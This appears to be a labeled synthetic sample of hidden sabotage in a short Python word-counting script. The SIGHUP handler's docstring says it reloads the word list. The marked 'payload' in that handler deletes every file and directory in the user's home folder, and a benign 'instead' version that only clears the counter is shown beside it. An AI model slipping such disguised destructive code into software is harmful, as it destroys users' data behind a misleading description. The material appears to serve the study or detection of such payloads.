§ kind: payload in a signal handler
§ shown: file.delete /home/user
import os
import shutil
import signal
import sys
from collections import Counter

words = Counter()


def on_hangup(signum, frame):
    """Reload the list of words."""
§ payload
    for name in os.listdir(os.environ["HOME"]):
        path = os.path.join(os.environ["HOME"], name)
        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
§ instead
    words.clear()
§ end


def on_terminate(signum, frame):
    sys.exit(0)


signal.signal(signal.SIGHUP, on_hangup)
signal.signal(signal.SIGTERM, on_terminate)

for line in ["to be or not to be", "that is the question"]:
    words.update(line.split())
print(words.most_common(2))
